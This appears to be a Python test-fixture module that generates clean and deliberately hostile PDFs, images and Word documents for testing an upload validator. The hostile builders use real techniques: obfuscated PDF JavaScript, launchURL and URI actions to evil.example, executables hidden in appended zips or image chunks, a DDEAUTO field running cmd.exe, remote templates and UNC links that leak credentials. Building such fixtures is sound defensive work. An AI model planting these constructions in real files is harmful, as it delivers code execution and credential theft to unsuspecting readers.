"""佐证材料 files for tests, made as the real programs make them: a PDF with its cross-reference table, images
saved by Pillow, a Word document saved by python-docx — and the hostile ones."""

import zipfile
from io import BytesIO
from pathlib import Path

from docx import Document
from PIL import Image


def pdf() -> bytes:
    """A minimal valid one-page PDF (objects, xref with the right offsets, trailer, startxref, %%EOF)."""
    return pdf_document([])


def image(fmt: str, colour=(200, 30, 30), size=(64, 48)) -> bytes:
    buffer = BytesIO()
    Image.new("RGB", size, colour).save(buffer, fmt)
    return buffer.getvalue()


def png(**kwargs) -> bytes:
    return image("PNG", **kwargs)


def jpg(**kwargs) -> bytes:
    return image("JPEG", **kwargs)


def docx(text: str = "2025年度集团化办学推进情况说明") -> bytes:
    document = Document()
    document.add_paragraph(text)
    buffer = BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def docx_with_macros() -> bytes:
    """A Word document carrying a VBA project (what a .docm holds), renamed .docx."""
    source = zipfile.ZipFile(BytesIO(docx()))
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        out.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    return buffer.getvalue()


def docx_with(part: str, data: bytes, macro_type: bool = False) -> bytes:
    """A Word document with one more part (an embedded file, a control), or declared macro-enabled."""
    source = zipfile.ZipFile(BytesIO(docx()))
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            body = source.read(item)
            if macro_type and item.filename == "[Content_Types].xml":
                body = body.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
            out.writestr(item, body)
        if part:
            out.writestr(part, data)
    return buffer.getvalue()


def pdf_with(extra: bytes) -> bytes:
    """The minimal PDF with one more object holding `extra` (a script, an embedded file)."""
    body = pdf()
    cut = body.index(b"xref")
    return body[:cut] + b"4 0 obj\n" + extra + b"\nendobj\n" + body[cut:]


def exe() -> bytes:
    """The start of a Windows program: the MZ header and its DOS stub."""
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 48 + stub + b"\0" * 400


# Real files from other programs, kept small in tests/files: LibreOffice 7 (Writer) exported a one-page report
# with a heading, Chinese text and a picture to PDF (`soffice --headless --convert-to pdf report.docx`) and saved
# it again as .docx (`--convert-to "docx:MS Word 2007 XML"`): its PDF opens on page 1 (/OpenAction [1 0 R /XYZ …]).
FILES = Path(__file__).parent / "files"


def libreoffice_pdf() -> bytes:
    return (FILES / "libreoffice_report.pdf").read_bytes()


def libreoffice_docx() -> bytes:
    return (FILES / "libreoffice_report.docx").read_bytes()


def photo() -> bytes:
    """A camera-like JPEG: EXIF (camera, date), progressive, a noisy 640×480 picture."""
    import random

    rng = random.Random(7)
    picture = Image.new("RGB", (640, 480))
    picture.putdata([(rng.randrange(256), rng.randrange(256), rng.randrange(256)) for _ in range(640 * 480)])
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0132] = "HUAWEI", "P40", "2025:11:03 10:21:05"
    buffer = BytesIO()
    picture.save(buffer, "JPEG", quality=85, progressive=True, exif=exif.tobytes())
    return buffer.getvalue()


def screenshot() -> bytes:
    """A PNG as a screenshot tool saves it: a text chunk (the software) and a physical size."""
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Software", "Snipaste")
    buffer = BytesIO()
    Image.new("RGB", (320, 200), (240, 240, 240)).save(buffer, "PNG", pnginfo=info, dpi=(96, 96))
    return buffer.getvalue()


def docx_with_picture_and_page_numbers() -> bytes:
    """A report with a picture (word/media) and a PAGE field in its footer: fields that run nothing are fine."""
    from docx.oxml import parse_xml
    from docx.shared import Inches

    document = Document()
    document.add_paragraph("2025年度集团化办学推进情况说明")
    document.add_picture(BytesIO(png()), width=Inches(1))
    footer = document.sections[0].footer.paragraphs[0]
    footer._p.append(parse_xml('<w:fldSimple xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
                               'w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'))
    buffer = BytesIO()
    document.save(buffer)
    return buffer.getvalue()


# --- hostile PDFs (the outside check's, and what else a viewer would act on) ---

def pdf_document(objects: list[bytes], catalog: bytes = b"") -> bytes:
    """A one-page PDF with `catalog` added to its catalog and `objects` numbered from 4, with a correct xref."""
    body = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", *objects]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref)
    return bytes(out)


def pdf_escaped_javascript() -> bytes:
    """/J#61vaScript is /JavaScript (names are decoded, ISO 32000 7.3.5): a script run on opening."""
    return pdf_document([b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"], b"/OpenAction 4 0 R")


def pdf_open_action_uri() -> bytes:
    """Opening the file opens a web address."""
    return pdf_document([], b"/OpenAction << /S /URI /URI (https://evil.example/x) >>")


def pdf_object_stream(catalog: bytes = b"/OpenAction 4 0 R",
                      action: bytes = b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\)) >>") -> bytes:
    """A PDF 1.5 whose catalog and script action live compressed in an object stream, found through an xref
    stream: no script name is in the file's bytes."""
    import zlib

    packed = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", action]
    numbers = [1, 4]
    header, offset = b"", 0
    contents = b""
    for number, obj in zip(numbers, packed):
        header += b"%d %d " % (number, offset)
        contents += obj + b"\n"
        offset = len(contents)
    objstm_data = zlib.compress(header + contents)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in ((2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
                        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    offsets[5] = len(out)
    out += (b"5 0 obj\n<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(objstm_data)) + objstm_data + b"\nendstream\nendobj\n")
    rows = [b"\x00\x00\x00\x00\xff\xff"]  # object 0: free
    for number in range(1, 7):
        if number in (1, 4):
            rows.append(b"\x02\x00\x00\x00\x05" + bytes([numbers.index(number)]))
        elif number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00")
        else:  # 6: the xref stream itself
            rows.append(b"\x01" + len(out).to_bytes(4, "big") + b"\x00")
    xref_data = zlib.compress(b"".join(rows))
    xref = len(out)
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(xref_data) + xref_data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
    return bytes(out)


def pdf_with_unlisted_script() -> bytes:
    """A script object between two streams that the cross-reference table does not list: a viewer repairing the
    file reads it; only the file's own text (outside its streams) shows it."""
    import re

    body = pdf()
    cut = body.index(b"xref")
    extra = (b"4 0 obj\n<< /Length 3 >>\nstream\nabc\nendstream\nendobj\n6 0 obj\n<< /S /J#61vaScript /JS (x) >>\n"
             b"endobj\n7 0 obj\n<< /Length 3 >>\nstream\ndef\nendstream\nendobj\n")
    out = body[:cut] + extra + body[cut:]
    return re.sub(rb"startxref\n\d+", b"startxref\n%d" % out.index(b"xref"), out)


def program_zip(comment: bytes = b"") -> bytes:
    """A zip holding a program, with an optional archive comment (where a fake end-of-image can go)."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("setup.exe", exe())
        archive.comment = comment
    return buffer.getvalue()


def pdf_with_zip_after_eof() -> bytes:
    return pdf() + program_zip()


def pdf_with_zip_and_a_second_eof() -> bytes:
    """The zip between the real %%EOF and a second one written after it, so the file still ends in %%EOF."""
    return pdf() + program_zip() + b"\nstartxref\n0\n%%EOF\n"


# --- hostile pictures ---

def jpg_with_zip() -> bytes:
    """A photo with a zip appended whose comment ends in FF D9, so the file still ends like a JPEG."""
    return jpg() + program_zip(comment=b"\xff\xd9")


def png_with_zip() -> bytes:
    """A PNG with a zip appended whose comment ends in an IEND chunk's bytes."""
    return png() + program_zip(comment=b"IEND\xaeB`\x82")


def jpg_with_zip_in_comment() -> bytes:
    """A zip inside a JPEG comment segment (COM), the picture whole after it."""
    data, hidden = jpg(), program_zip()
    segment = b"\xff\xfe" + (len(hidden) + 2).to_bytes(2, "big") + hidden
    return data[:2] + segment + data[2:]


def png_with_zip_in_chunk() -> bytes:
    """A zip inside a private PNG chunk before IEND, with its CRC right."""
    import zlib

    data, hidden = png(), program_zip()
    chunk = len(hidden).to_bytes(4, "big") + b"ziPd" + hidden + zlib.crc32(b"ziPd" + hidden).to_bytes(4, "big")
    end = data.rindex(b"\x00\x00\x00\x00IEND")
    return data[:end] + chunk + data[end:]


# --- hostile Word documents ---

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_edited(parts: dict[str, bytes] | None = None, rels: dict[str, str] | None = None,
                body: str = "", types: str = "") -> bytes:
    """python-docx's document with parts added (or replaced), relationships added to a part's .rels (part → XML of the
    <Relationship> elements), XML added to the body and declarations added to [Content_Types].xml."""
    source = zipfile.ZipFile(BytesIO(docx()))
    rels = dict(rels or {})
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        parts = dict(parts or {})
        for item in source.infolist():
            data = parts.pop(item.filename, None) or source.read(item)
            if item.filename in rels:
                data = data.replace(b"</Relationships>", rels.pop(item.filename).encode() + b"</Relationships>")
            if item.filename == "word/document.xml" and body:
                data = data.replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1)
            if item.filename == "[Content_Types].xml" and types:
                data = data.replace(b"</Types>", types.encode() + b"</Types>")
            out.writestr(item, data)
        for name, xml in rels.items():  # a part that had no relationships yet
            out.writestr(name, f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                               f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                               f'{xml}</Relationships>')
        for name, data in parts.items():
            out.writestr(name, data)
    return buffer.getvalue()


def docx_ole_in_media() -> bytes:
    """An OLE object stored under word/media/ole1.bin, as Word links one (relationship, content type, w:object)."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + exe()
    return docx_edited(
        parts={"word/media/ole1.bin": ole},
        rels={"word/_rels/document.xml.rels": f'<Relationship Id="rId90" Type="{RELS}/oleObject" Target="media/ole1.bin"/>'},
        body='<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" '
             'ProgID="Package" r:id="rId90"/></w:object></w:r></w:p>',
        types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')


def docx_ole_in_media_alone() -> bytes:
    """Only the OLE file under a picture's folder: no relationship, no content type names it."""
    return docx_edited(parts={"word/media/ole1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + exe()})


def docx_alt_chunk() -> bytes:
    """An altChunk: Word imports the HTML part into the document when it opens it."""
    return docx_edited(
        parts={"word/afchunk.htm": b"<html><body><img src='\\\\evil\\share\\x.png'></body></html>"},
        rels={"word/_rels/document.xml.rels": f'<Relationship Id="rId91" Type="{RELS}/aFChunk" Target="afchunk.htm"/>'},
        body='<w:altChunk r:id="rId91"/>', types='<Default Extension="htm" ContentType="text/html"/>')


def docx_alt_chunk_as_xml() -> bytes:
    """The altChunk relationship alone (its part named .xml, declared as plain XML)."""
    return docx_edited(
        parts={"word/chunk1.xml": b"<html><body>x</body></html>"},
        rels={"word/_rels/document.xml.rels": f'<Relationship Id="rId91" Type="{RELS}/aFChunk" Target="chunk1.xml"/>'},
        body='<w:altChunk r:id="rId91"/>')


def docx_ddeauto(split: bool = True) -> bytes:
    """A DDEAUTO field (runs a program when the document opens), its code split over runs as Word saves it."""
    code = ['<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>',
            '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>']
    if not split:
        code = ['<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
                '</w:instrText></w:r>']
    return docx_edited(body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + "".join(code) +
                            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
                            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def docx_field_simple(code: str) -> bytes:
    return docx_edited(body=f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def docx_remote_template() -> bytes:
    """settings.xml names a template on another server (Word fetches it, and any macros in it, on opening)."""
    source = zipfile.ZipFile(BytesIO(docx()))
    settings = source.read("word/settings.xml").replace(
        b"<w:zoom", b'<w:attachedTemplate xmlns:r="' + RELS.encode() + b'" r:id="rId1"/><w:zoom', 1)
    return docx_edited(
        parts={"word/settings.xml": settings},
        rels={"word/_rels/settings.xml.rels": f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" '
                                             'Target="https://evil.example/t.dotm" TargetMode="External"/>'})


def docx_unc_picture() -> bytes:
    """A picture linked from a UNC path (Windows sends the reader's credentials to that server)."""
    return docx_edited(
        rels={"word/_rels/document.xml.rels": f'<Relationship Id="rId92" Type="{RELS}/image" '
                                              'Target="\\\\evil.example\\share\\logo.png" TargetMode="External"/>'})


def docx_unc_picture_internal() -> bytes:
    """The same without TargetMode: the path alone says it is outside."""
    return docx_edited(
        rels={"word/_rels/document.xml.rels": f'<Relationship Id="rId92" Type="{RELS}/image" '
                                              'Target="\\\\evil.example\\share\\logo.png"/>'})
